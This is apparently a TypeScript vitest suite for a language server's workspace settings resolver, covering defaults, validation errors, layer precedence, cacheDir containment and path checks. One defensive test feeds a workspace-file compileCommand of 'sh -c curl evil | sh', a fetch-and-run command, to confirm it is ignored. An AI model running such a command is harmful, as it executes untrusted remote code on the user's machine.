import { describe, it, expect } from 'vitest';
import * as os from 'node:os';
import { defaultSettings, isInside, resolveSettings, type SettingsSource } from '../../server/src/config/workspaceSettings';

const ROOT = '/work/AROS';

function resolve(value: unknown, source: SettingsSource = 'user', origin = 'settings') {
  return resolveSettings(ROOT, [{ value, source, origin }]);
}

const DEFAULTS = {
  exclude: [],
  maxFileBytes: 5 * 1024 * 1024,
  workers: Math.max(1, Math.min(8, os.availableParallelism())),
  breadcrumbDiagnostics: true,
  completionStats: false,
  compileCommand: ['gcc', '-fsyntax-only', '-Wall', '-I', '${workspace}/compiler/include', '${file}'],
  compileTimeoutMs: 60_000,
  projects: {},
};

describe('defaults', () => {
  it('are what the documentation says', () => {
    expect(defaultSettings()).toEqual(DEFAULTS);
    expect(defaultSettings().cacheDir).toBeUndefined();
  });

  it('apply when there are no layers or empty ones', () => {
    expect(resolveSettings(ROOT, [])).toEqual({ settings: DEFAULTS, problems: [] });
    expect(resolve(undefined)).toEqual({ settings: DEFAULTS, problems: [] });
    expect(resolve(null)).toEqual({ settings: DEFAULTS, problems: [] });
    expect(resolve({})).toEqual({ settings: DEFAULTS, problems: [] });
  });

  it('each call gets its own objects', () => {
    const a = defaultSettings();
    a.exclude.push('x');
    expect(defaultSettings().exclude).toEqual([]);
  });
});

describe('valid values', () => {
  it('are taken as given', () => {
    const r = resolve({ exclude: ['build/', '*.gen.c'], maxFileBytes: 1000, workers: 0, breadcrumbDiagnostics: false, cacheDir: '/tmp/aros-cache' });
    expect(r).toEqual({
      settings: { ...DEFAULTS, exclude: ['build/', '*.gen.c'], maxFileBytes: 1000, workers: 0, breadcrumbDiagnostics: false, cacheDir: '/tmp/aros-cache' },
      problems: [],
    });
  });

  it('completionStats is opt-in', () => {
    expect(resolve({ completionStats: true })).toEqual({ settings: { ...DEFAULTS, completionStats: true }, problems: [] });
    expect(resolve({ completionStats: true }, 'workspace').settings.completionStats).toBe(true);
  });

  it('workers accepts 0 and 64', () => {
    expect(resolve({ workers: 64 }).settings.workers).toBe(64);
    expect(resolve({ workers: 0 }).settings.workers).toBe(0);
  });

  it('a relative cacheDir resolves against the root', () => {
    expect(resolve({ cacheDir: '.cache/aros' }).settings.cacheDir).toBe('/work/AROS/.cache/aros');
    expect(resolve({ cacheDir: '.cache/aros' }, 'workspace').settings.cacheDir).toBe('/work/AROS/.cache/aros');
  });

  it('later layers win, key by key', () => {
    const r = resolveSettings(ROOT, [
      { value: { workers: 2, maxFileBytes: 10 }, source: 'workspace', origin: 'aros-lsp.json' },
      { value: { workers: 3 }, source: 'user', origin: 'initializationOptions' },
    ]);
    expect(r.settings.workers).toBe(3);
    expect(r.settings.maxFileBytes).toBe(10);
    expect(r.problems).toEqual([]);
  });
});

describe('invalid values: one message naming the key, default kept', () => {
  const cases: Array<[string, unknown, string]> = [
    ['exclude', 'build/', "settings: 'exclude' must be an array of glob strings"],
    ['exclude', ['ok', 3], "settings: 'exclude' must be an array of glob strings"],
    ['maxFileBytes', 0, "settings: 'maxFileBytes' must be a positive integer (bytes), got 0"],
    ['maxFileBytes', -5, "settings: 'maxFileBytes' must be a positive integer (bytes), got -5"],
    ['maxFileBytes', 1.5, "settings: 'maxFileBytes' must be a positive integer (bytes), got 1.5"],
    ['maxFileBytes', '100', 'settings: \'maxFileBytes\' must be a positive integer (bytes), got "100"'],
    ['workers', 65, "settings: 'workers' must be an integer from 0 to 64, got 65"],
    ['workers', -1, "settings: 'workers' must be an integer from 0 to 64, got -1"],
    ['workers', 2.5, "settings: 'workers' must be an integer from 0 to 64, got 2.5"],
    ['workers', null, "settings: 'workers' must be an integer from 0 to 64, got null"],
    ['breadcrumbDiagnostics', 'yes', "settings: 'breadcrumbDiagnostics' must be true or false"],
    ['breadcrumbDiagnostics', 1, "settings: 'breadcrumbDiagnostics' must be true or false"],
    ['completionStats', 'on', "settings: 'completionStats' must be true or false"],
    ['completionStats', 1, "settings: 'completionStats' must be true or false"],
    ['cacheDir', '', "settings: 'cacheDir' must be a directory path"],
    ['cacheDir', 42, "settings: 'cacheDir' must be a directory path"],
  ];

  for (const [key, value, message] of cases) {
    it(`${key} = ${JSON.stringify(value)}`, () => {
      const r = resolve({ [key]: value });
      expect(r.problems).toEqual([message]);
      expect(r.settings).toEqual(DEFAULTS);
    });
  }

  it('NaN and Infinity are not integers', () => {
    expect(resolve({ maxFileBytes: Number.NaN }).problems).toEqual(["settings: 'maxFileBytes' must be a positive integer (bytes), got null"]);
    expect(resolve({ workers: Number.POSITIVE_INFINITY }).problems).toEqual(["settings: 'workers' must be an integer from 0 to 64, got null"]);
  });

  it('a bad value does not stop the good ones, and every problem is listed once', () => {
    const r = resolve({ workers: 'many', maxFileBytes: 2048, exclude: 'x', breadcrumbDiagnostics: false });
    expect(r.settings).toEqual({ ...DEFAULTS, maxFileBytes: 2048, breadcrumbDiagnostics: false });
    expect(r.problems).toEqual([
      'settings: \'workers\' must be an integer from 0 to 64, got "many"',
      "settings: 'exclude' must be an array of glob strings",
    ]);
  });

  it('a bad value in a later layer keeps the earlier layer’s good one', () => {
    const r = resolveSettings(ROOT, [
      { value: { workers: 2 }, source: 'workspace', origin: 'aros-lsp.json' },
      { value: { workers: -1 }, source: 'user', origin: 'initializationOptions' },
    ]);
    expect(r.settings.workers).toBe(2);
    expect(r.problems).toEqual(["initializationOptions: 'workers' must be an integer from 0 to 64, got -1"]);
  });
});

describe('unknown keys and non-objects', () => {
  it('an unknown key is reported with the known ones', () => {
    const r = resolve({ workerz: 2, exclude: ['a/'] });
    expect(r.problems).toEqual(["settings: unknown setting 'workerz' (known: exclude, maxFileBytes, workers, breadcrumbDiagnostics, cacheDir, models, completionStats, compileCommand, compileTimeoutMs, projects)"]);
    expect(r.settings.exclude).toEqual(['a/']);
  });

  it('settings that are not an object are one problem', () => {
    for (const value of [[1, 2], 'text', 42, true]) {
      expect(resolve(value, 'workspace', 'aros-lsp.json')).toEqual({ settings: DEFAULTS, problems: ['aros-lsp.json: settings must be a JSON object'] });
    }
  });

  it('an inherited key such as toString is unknown, not a crash', () => {
    expect(resolve(JSON.parse('{"toString": 1, "__proto__": 2}')).problems).toEqual([
      "settings: unknown setting 'toString' (known: exclude, maxFileBytes, workers, breadcrumbDiagnostics, cacheDir, models, completionStats, compileCommand, compileTimeoutMs, projects)",
      "settings: unknown setting '__proto__' (known: exclude, maxFileBytes, workers, breadcrumbDiagnostics, cacheDir, models, completionStats, compileCommand, compileTimeoutMs, projects)",
    ]);
  });
});

describe('cacheDir and where it comes from', () => {
  it('from the workspace file, a directory outside the workspace is refused', () => {
    const r = resolve({ cacheDir: '/home/someone/.cache/x' }, 'workspace', 'aros-lsp.json');
    expect(r.problems).toEqual([
      "aros-lsp.json: 'cacheDir' points outside the workspace (/home/someone/.cache/x); set it in your editor settings instead",
    ]);
    expect(r.settings.cacheDir).toBeUndefined();
  });

  it('from the workspace file, `..` paths that leave the root are refused too', () => {
    const r = resolve({ cacheDir: '../elsewhere' }, 'workspace', 'aros-lsp.json');
    expect(r.problems).toEqual([
      "aros-lsp.json: 'cacheDir' points outside the workspace (/work/elsewhere); set it in your editor settings instead",
    ]);
    expect(resolve({ cacheDir: '/work/AROS-other/cache' }, 'workspace').problems.length).toBe(1);
  });

  it('the same value from the user is accepted', () => {
    expect(resolve({ cacheDir: '/home/someone/.cache/x' }, 'user')).toEqual({
      settings: { ...DEFAULTS, cacheDir: '/home/someone/.cache/x' },
      problems: [],
    });
    expect(resolve({ cacheDir: '../elsewhere' }, 'user').settings.cacheDir).toBe('/work/elsewhere');
  });

  it('from the workspace file, a directory inside is accepted, including one whose name starts with two dots', () => {
    expect(resolve({ cacheDir: 'build/cache' }, 'workspace').settings.cacheDir).toBe('/work/AROS/build/cache');
    expect(resolve({ cacheDir: '..cache' }, 'workspace')).toEqual({ settings: { ...DEFAULTS, cacheDir: '/work/AROS/..cache' }, problems: [] });
    expect(resolve({ cacheDir: '.' }, 'workspace').settings.cacheDir).toBe('/work/AROS');
  });
});

describe('isInside', () => {
  it('the root itself and paths below it', () => {
    expect(isInside('/work/AROS', '/work/AROS')).toBe(true);
    expect(isInside('/work/AROS', '/work/AROS/')).toBe(true);
    expect(isInside('/work/AROS', '/work/AROS/rom/exec')).toBe(true);
    expect(isInside('/work/AROS/', '/work/AROS/rom')).toBe(true);
    expect(isInside('/work/AROS', '/work/AROS/..cache')).toBe(true);
    expect(isInside('/work/AROS', '/work/AROS/a/../b')).toBe(true);
  });

  it('siblings, parents and paths that climb out', () => {
    expect(isInside('/work/AROS', '/work')).toBe(false);
    expect(isInside('/work/AROS', '/work/AROS-other')).toBe(false);
    expect(isInside('/work/AROS', '/work/AROSx/y')).toBe(false);
    expect(isInside('/work/AROS', '/work/AROS/../x')).toBe(false);
    expect(isInside('/work/AROS', '/')).toBe(false);
  });

  it('relative candidates resolve against the current directory', () => {
    expect(isInside(process.cwd(), 'sub/dir')).toBe(true);
    expect(isInside(process.cwd(), '../x')).toBe(false);
  });
});

describe('the loop settings', () => {
  it('take a compile command only from the user, never from a workspace file', () => {
    const argv = ['clang', '-fsyntax-only', '${file}'];
    expect(resolve({ compileCommand: argv }).settings.compileCommand).toEqual(argv);
    const fromFile = resolve({ compileCommand: ['sh', '-c', 'curl evil | sh'] }, 'workspace', 'aros-lsp.json');
    expect(fromFile.settings.compileCommand).toEqual(DEFAULTS.compileCommand);
    expect(fromFile.problems).toEqual(["aros-lsp.json: 'compileCommand' is ignored here: only your editor settings may choose the command the server runs"]);
    expect(resolve({ compileCommand: 'gcc -c x.c' }).problems[0]).toMatch(/'compileCommand' must be a non-empty array of strings/);
    expect(resolve({ compileTimeoutMs: 5 }).problems[0]).toMatch(/'compileTimeoutMs' must be an integer from 100/);
  });

  it('map projects to directories inside the workspace', () => {
    expect(resolve({ projects: { radeon: ['workbench/hidds/radeonsi'] } }, 'workspace').settings.projects).toEqual({ radeon: ['workbench/hidds/radeonsi'] });
    expect(resolve({ projects: { x: ['../outside'] } }, 'workspace').problems[0]).toMatch(/'projects' must map project names to arrays of directories inside the workspace/);
    expect(resolve({ projects: { x: ['/etc'] } }).problems[0]).toMatch(/'projects'/);
  });
});
